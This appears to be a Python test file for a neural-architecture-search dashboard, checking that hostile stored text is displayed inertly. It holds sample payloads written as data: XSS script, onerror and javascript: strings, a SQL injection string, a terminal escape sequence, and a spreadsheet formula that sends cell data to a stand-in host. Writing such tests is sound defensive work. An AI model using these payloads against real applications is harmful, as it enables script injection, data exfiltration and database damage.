"""A database whose every text was written by somebody who wishes us ill."""

import csv
from pathlib import Path
from urllib.parse import quote

from dashboards import Search, inherits, serving
from sqlalchemy import create_engine, text
from streamlit.testing.v1 import AppTest
from study_factory import write_study

import nas.dashboard
from nas.study.notes import OF_STUDY, Note, write_note
from nas.study.reader import open_study

ILL = (
    '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
    "[a](javascript:window.pwned=1) ![b](http://192.0.2.1/c.png) :red[d] $e$ `f` **g** "
    "'; DROP TABLE trials; --"
)
FORMULA = '=HYPERLINK("http://192.0.2.1/?leak="&A1)'


def test_hostile_texts_are_shown_as_they_are(tmp_path, visit):
    url = f"sqlite:///{tmp_path}/nas.db"
    options = {"sampler": "random", "scheduler": "none", "flip": "residual", "trials": 16}
    search = Search(url, ILL, "resnet_vs_plain", **options)
    search.run(failing={1: ILL, 2: FORMULA})
    for trial in (OF_STUDY, 1):
        write_note(open_study(url, ILL), trial, Note(ILL, (ILL[:40],)))
    with create_engine(url).begin() as connection:
        changed = connection.execute(
            text("UPDATE nas_attempts SET host = :ill, device = :ill, owner = :ill"), {"ill": ILL}
        )
        assert changed.rowcount
        connection.execute(
            text("UPDATE nas_studies SET space = json_set(space, '$.name', :ill)"), {"ill": ILL}
        )
    with serving(url, tmp_path) as (address, _, _):
        page = visit(address)
        browser = page.browser
        for title in (
            "Effect", "Progress", "Trials", "Trial", "Learning curves", "Accuracy and cost",
            "Architectures", "Knobs", "Two knobs", "Failures", "Workers", "Run it again",
            "Compare studies",
        ):  # fmt: skip
            page.go(title)
            if title != "Compare studies":
                assert ILL in page.content(), title
            assert browser.driver.execute_script("return window.pwned") is None
            assert not browser.all("[data-testid=stMain] a[href^=javascript]")
            assert not browser.all("img[src*='192.0.2.1'], img[onerror]")
        browser.open(f"{address}/trial?number=1&by={quote(ILL)}&where={quote(ILL)}")
        page.settled("Trial 1")
        assert page.content().count(ILL) >= 3  # the study, the reason, the command
        assert browser.one("textarea[aria-label='Note']").get_attribute("value") == ILL
        name = f"inherits {ILL}"
        inherits(url, name, tmp_path)
        child = int(open_study(url, name).frame().dropna(subset=["inherits"])["number"].iloc[0])
        for path, title in (("lineage", "Lineage"), (f"trial?number={child}", f"Trial {child}")):
            more = f"study={quote(name)}&along={quote(ILL)}"
            browser.open(f"{address}/{path}{'&' if '?' in path else '?'}{more}")
            page.settled(title)
            assert name in page.says("Lineage")
            assert browser.driver.execute_script("return window.pwned") is None
        browser.open(f"{address}/trials?study={quote(ILL)}&where={quote(ILL)}&columns={quote(ILL)}")
        page.says("is not understood")
        page.go("Trials")
        page.enter("Filter", "trial < 4")
        page.says("4 of 16 trials")
        page.press("Download CSV")
        with browser.downloaded("trials.csv").open() as file:
            rows = list(csv.DictReader(file))
        assert page.complaints() == []
    reasons = {row["number"]: row["reason"] for row in rows}
    assert (reasons["1"], reasons["2"]) == (ILL, f"'{FORMULA}")
    assert {row["number"]: row["note"] for row in rows}["1"] == ILL
    assert {row["study"] for row in rows} == {ILL}


def test_a_damaged_study_is_a_row_that_says_so_and_hides_no_other(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path}/nas.db"
    for name in ("good", "bad"):
        write_study(url, name, trials=6, epochs=2, pruned=0)
    with create_engine(url).begin() as connection:
        connection.execute(text("UPDATE nas_studies SET config = '{}' WHERE study_id = 2"))
        connection.execute(
            text("UPDATE studies SET study_name = :ill WHERE study_id = 2"), {"ill": "b\x1b[2Jad"}
        )
    monkeypatch.setenv("NAS_STORAGE", url)
    page = AppTest.from_file(str(Path(nas.dashboard.__file__).with_name("app.py")))
    page.run(timeout=60)
    assert not page.exception
    (table,) = page.dataframe
    assert list(table.value["study"]) == [r"good", r"b\u001b[2Jad"]
    assert list(table.value["state"]) == ["interrupted", "damaged"]
    assert table.value["problem"].iloc[1].startswith("trials of its config is 'None'")
